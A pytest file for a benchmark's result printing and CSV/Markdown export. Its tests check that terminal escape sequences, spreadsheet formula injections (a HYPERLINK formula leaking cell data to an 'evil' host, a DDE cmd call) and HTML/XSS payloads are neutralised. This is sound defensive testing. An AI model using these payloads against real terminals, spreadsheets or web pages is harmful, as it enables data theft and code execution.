"""Printing a finished run: numbers where text is expected, rich markup in answers, and a huge
reply neither break the console nor bloat the Markdown table."""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd

from benchcore.run_folder import QA_COLUMNS
from benchcore.run_summary import RunSummary
from benchcore.track_summary import TrackSummary
from dsgqa.results import write_results
from nlp_dsg_benchmark import console as console_module


def _table(answers: list[str]) -> pd.DataFrame:
    rows = [{column: "" for column in QA_COLUMNS} | {
        "uid": f"q{i}", "model": "m", "valid_cypher": True, "n_rows": 1, "answer": answer,
        "correct": True, "score_f1": 1.0, "tokens": 0, "cost_usd": 0.0, "seconds": 0.0,
        "prompt_tokens": 0, "completion_tokens": 0, "score_precision": 1.0,
        "score_recall": 1.0, "valid_answer": True, "truncated": False,
    } for i, answer in enumerate(answers)]
    return pd.DataFrame(rows, columns=list(QA_COLUMNS))


def _printed(tmp_path: Path, answers: list[str]) -> str:
    paths = write_results(_table(answers), tmp_path)
    track = TrackSummary(paths={k: str(v) for k, v in paths.items()}, units=len(answers),
                         items=len(answers), errors=1, overall_records=[{"model": "[m]"}],
                         markdown="", llm_calls={}, error_causes=[("HTTP 400: [bad]", 1)])
    summary = RunSummary(run_id="r", run_dir=str(tmp_path), qa=track,
                         report_html=str(tmp_path / "[x]/report.html"))
    with console_module.console.capture() as capture:
        console_module.print_run(summary)
    return capture.get()


def test_all_numeric_answers_are_printed(tmp_path: Path) -> None:
    out = _printed(tmp_path, ["8", "5", "32"])
    assert "32" in out and "Scene-graph QA: per question" in out


def test_markup_in_cells_and_paths_is_shown_as_written(tmp_path: Path, monkeypatch) -> None:
    # Wide enough for the report's path on one line: a temporary folder's path is longer under
    # pytest-xdist (`popen-gw0/`) or a long user name, and 80 columns would fold it.
    monkeypatch.setenv("COLUMNS", "500")
    out = _printed(tmp_path, ["[seating, storage, sign]", "[bold]x[/bold]"])
    assert "[seating, storage, sign]" in out and "[bold]x[/bold]" in out
    assert "[x]/report.html" in out and "1 × HTTP 400: [bad]" in out and "[m]" in out


def test_markdown_cells_are_capped(tmp_path: Path) -> None:
    huge = "word " * 200_000          # a 1 MB reply
    paths = write_results(_table([huge, "a | b\nc"]), tmp_path)
    markdown = paths["markdown"].read_text()
    assert len(markdown) < 5_000
    assert "a \\| b c" in markdown
    assert len(pd.read_csv(paths["rows_csv"])["answer"][0]) == len(huge)   # the CSV keeps all


def test_markdown_shows_number_like_answers_as_written(tmp_path: Path) -> None:
    """tabulate reads number-like text as numbers; a model's answer must be shown as it said."""
    paths = write_results(_table(["0.10", "1e3", "007"]), tmp_path)
    rows = [line for line in paths["markdown"].read_text().splitlines()
            if line.startswith("| q")]
    answers = [row.split("|")[6].strip() for row in rows]
    assert answers == ["0.10", "1e3", "007"]


def test_the_artifact_shows_the_summaries_and_at_most_50_wrong_rows(tmp_path: Path) -> None:
    from dsgqa.results import ARTIFACT_ROWS, artifact_markdown, summaries

    table = _table([str(i) for i in range(120)])
    table["correct"] = pd.array([i % 2 == 0 if i != 1 else None for i in range(120)],
                                dtype="boolean")
    table.loc[2, "error"] = "HTTP 500"
    text = artifact_markdown(table, *summaries(table))
    assert "## Overall" in text and "## By tag" in text
    assert f"61 of 120 rows wrong or errored; the first {ARTIFACT_ROWS} shown" in text
    per_question = text.split("## Wrong or errored")[1]
    assert per_question.count("| q") == ARTIFACT_ROWS   # one table line per shown row
    assert "| q2 " in per_question and "| q1 " in per_question   # errored; unknown correctness
    assert "| q4 " not in per_question                             # right: not listed


HOSTILE = ["\x1b[2J\x1b[Hcleared", "\x1b]0;pwned\x07title", "\x1b]8;;http://evil.example/\x1b\\"
           "link\x1b]8;;\x1b\\", "\x1b[31mred\x1b[0m", "over\rwrite", "\u202eevil", "\x9b2Jc1"]


def test_no_terminal_control_from_a_value_reaches_the_terminal(tmp_path: Path) -> None:
    from benchcore.terminal_text import printable

    assert [printable(text) for text in HOSTILE] == [
        "cleared", "title", "link", "red", "over write", " evil", "c1"]
    table = _table(HOSTILE)
    table["uid"] = [f"q{i}\x1b[1m" for i in range(len(HOSTILE))]
    table["model"] = "m\x1b]0;x\x07"
    paths = write_results(table, tmp_path)
    track = TrackSummary(paths={k: str(v) for k, v in paths.items()}, units=7, items=7,
                         errors=1, overall_records=[{"model": "m\x1b]0;x\x07"}], markdown="",
                         llm_calls={}, error_causes=[("HTTP 400: \x1b[2Jgone\r", 1)],
                         notes=["note \x1b[5mblink"])
    summary = RunSummary(run_id="r", run_dir=str(tmp_path), qa=track,
                         regressions=["m\x1b[8m hidden"])
    with console_module.console.capture() as capture:
        console_module.print_run(summary)
    out = capture.get()
    assert not any(c in out for c in "\x1b\x07\r\x9b\u202e"), repr(out)
    assert "cleared" in out and "1 × HTTP 400: gone" in out and "blink" in out


def test_a_cli_error_holds_no_terminal_control(tmp_path: Path, capsys) -> None:
    from nlp_dsg_benchmark.cli import main

    bad = tmp_path / "bad.yaml"
    bad.write_text('questions:\n  - uid: "q\\e]0;pwned\\a\\e[2J"\n    solution: "1"\n'
                   "    correctness_comparator: {comparison_type: SLDP}\n")
    graph = Path(__file__).resolve().parents[1] / "questions/demo/apartment_dsg.json"
    assert main(["run", "--questions", str(bad), "--scene-graph", str(graph),
                 "--model", "m", "--provider", "oracle"]) == 2
    err = capsys.readouterr().err
    assert "question q: field question: field required" in err
    assert not any(c in err for c in "\x1b\x07"), repr(err)


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_read_back_raw(
    tmp_path: Path,
) -> None:
    import csv

    from benchcore.run_folder import QA_TABLE, read_table
    from planeval.tables import write_table

    answers = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd", "-2+3", "@SUM(A1)", "\tx",
               "-3", "+0.5", "'=quoted", "plain"]
    table = _table(answers)
    table["tags"] = [["=cmd|' /C calc'!A0", "ok"]] * len(answers)
    paths = write_results(table, tmp_path)
    with paths["rows_csv"].open(newline="") as handle:
        written = list(csv.DictReader(handle))
    assert [row["answer"] for row in written] == [
        '\'=HYPERLINK("http://evil/?"&A1,"x")', "'+1+cmd", "'-2+3", "'@SUM(A1)", "'\tx",
        "-3", "+0.5", "''=quoted", "plain"]
    for name in ("summary_csv", "by_tag_csv"):
        text = paths[name].read_text()
        assert "\n=" not in text and ",=" not in text
    assert "'=cmd|' /C calc'!A0" in paths["by_tag_csv"].read_text()
    read = read_table(tmp_path, QA_TABLE)
    assert list(read["answer"]) == answers                      # raw again for the store
    assert read["tags"][0] == ["=cmd|' /C calc'!A0", "ok"]
    plan = write_table(pd.DataFrame({"model": ["@evil", "m"], "n": [1, 2]}), tmp_path / "p.csv")
    assert "'@evil" in plan.read_text()


def test_markdown_cells_hold_no_html_and_break_no_table(tmp_path: Path) -> None:
    from reporting.document import Document, Section, Table
    from reporting.markdown import render_markdown

    table = _table(["<img src=x onerror=alert(1)>", "[x](javascript:alert(1))"])
    table["uid"] = ["q|1\n", "<b>q2</b>"]
    table["model"] = "m|<script>"
    table["tags"] = [["t|a\nb<i>"], ["ok"]]
    paths = write_results(table, tmp_path)
    markdown = paths["markdown"].read_text()
    assert not re.search(r"(?<!\\)[<>]|(?<!\\)\]\(", markdown)      # all escaped
    per_question = markdown.split("## Per question")[1]
    rows = [line for line in per_question.splitlines() if line.startswith("|")]
    assert len(rows) == 4 and all(row.count(" | ") == 7 for row in rows[2:])
    document = Document("r\n# x", [("run", "a`b<br>")], [Section(
        "QA", tables=[Table("t|<b>", pd.DataFrame({"model": ["m|<i>\nx"], "n": [1]}))],
        alerts=["REGRESSION <img src=x>"])])
    rendered = render_markdown(document)
    assert not re.search(r"(?<!\\)<", rendered)
    assert "| m\\|\\<i\\> x | 1 |" in rendered


def test_a_tag_holding_a_semicolon_is_one_tag(tmp_path: Path) -> None:
    from benchcore.run_folder import QA_TABLE, read_table
    from dsgqa.results import summary_by_tag

    table = _table(["1", "2"])
    table["tags"] = [["a;b", "c"], ["c"]]
    by_tag = summary_by_tag(table)
    assert sorted(by_tag["tag"]) == ["a;b", "c"]
    write_results(table, tmp_path)
    read = read_table(tmp_path, QA_TABLE)
    assert list(read["tags"]) == [["a;b", "c"], ["c"]]
    assert sorted(summary_by_tag(read)["tag"]) == ["a;b", "c"]
    legacy = read.assign(tags=["x;y", ""])                     # a run written before lists
    assert sorted(summary_by_tag(legacy)["tag"]) == ["x", "y"]
